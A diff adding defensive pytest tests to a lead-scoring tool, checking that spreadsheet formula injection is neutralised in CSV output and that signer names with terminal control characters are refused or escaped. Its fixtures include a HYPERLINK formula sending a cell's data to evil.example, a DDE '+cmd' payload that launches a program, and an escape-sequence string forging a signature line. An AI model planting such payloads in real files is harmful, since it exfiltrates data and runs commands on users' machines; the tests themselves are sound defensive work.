@@ -225,3 +225,60 @@ def test_a_second_render_waits_for_the_first_and_says_so(rendered: Path) -> None
     _, stderr = second.communicate(timeout=300)
     assert second.returncode == 0, stderr
     assert "2026-09 is being rendered by process 4242: waiting for it to finish" in stderr
+
+
+# --- CSV formula injection ------------------------------------------------------------------------------
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'
+
+
+def test_cells_a_spreadsheet_would_run_are_written_as_text(tmp_path: Path) -> None:
+    import numpy as np
+
+    from alignment.model import fit_model
+
+    rng = np.random.default_rng(2)
+    n = 2_000
+    segment = rng.choice([FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)", "retail", "-2+3"], n)
+    y = rng.random(n) < np.where(segment == "retail", 0.4, 0.15)
+    pd.DataFrame({"lead_id": [f"=id{i}" if i < 5 else f"l{i}" for i in range(n)], "segment": segment,
+                  "employees": rng.gamma(2.0, 40, n), "delta": rng.normal(-20, 5, n),
+                  "outcome": np.where(y, "won", "lost")}).to_csv(tmp_path / "leads.csv", index=False)
+    (tmp_path / "alignment.toml").write_text('[source]\nleads = "leads.csv"\n')
+    fit_model(tmp_path / "alignment.toml", progress=False)
+    points = (tmp_path / "model" / "points.csv").read_text()
+    for payload in (FORMULA, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
+        quoted = f"'{payload}"
+        assert quoted.replace('"', '""') in points or quoted in points
+    assert ",-2+3," not in points and "'-2+3" in points
+    numeric = pd.read_csv(tmp_path / "model" / "points.csv")
+    assert not numeric.loc[numeric["attribute"] == "delta", "band"].str.startswith("'").any()
+
+    scored_out = tmp_path / "scores.csv"
+    result = _cli("score", "--model", str(tmp_path / "model"), "--input", str(tmp_path / "leads.csv"),
+                  "--out", str(scored_out))
+    assert result.exit_code == 0, result.output
+    scores = pd.read_csv(scored_out, dtype=str)
+    assert scores["lead_id"].iloc[0] == "'=id0" and scores["lead_id"].iloc[10] == "l10"
+    cells = scores[["reason_1", "reason_2", "reason_3"]].fillna("").to_numpy().ravel()
+    assert not any(str(cell).startswith(("=", "+", "-", "@")) for cell in cells)
+
+
+# --- control characters in signer names -------------------------------------------------------------------
+
+
+def test_a_signer_name_with_control_characters_is_refused_and_escaped_when_listed() -> None:
+    from alignment.agreement import Agreement, make_agreement, summary_line
+    from alignment.exceptions import AgreementError
+
+    fields = {"model_version": "abc", "thresholds": {"mql": 50, "fast_track": 80, "recycle": 20},
+              "service_levels": {"follow_up_hours": 24, "accept_within_days": 5, "mql_per_month": 100,
+                                 "min_win_rate": 0.05}}
+    forged = "Ann\x1b]0;owned\x07\nv9    signed Mallory"
+    with pytest.raises(AgreementError, match="control character"):
+        make_agreement(**fields, signed_by={"marketing": forged, "sales": "Bob"})
+    hand_edited = Agreement.model_validate({**fields, "version": 3, "created_at": "2026-11-02T10:00:00",
+                                            "signed_by": {"marketing": forged, "sales": "Bob"}})
+    line = summary_line(hand_edited)
+    assert "\n" not in line and "\x1b" not in line and "\\x1b]0;owned\\x07\\nv9" in line
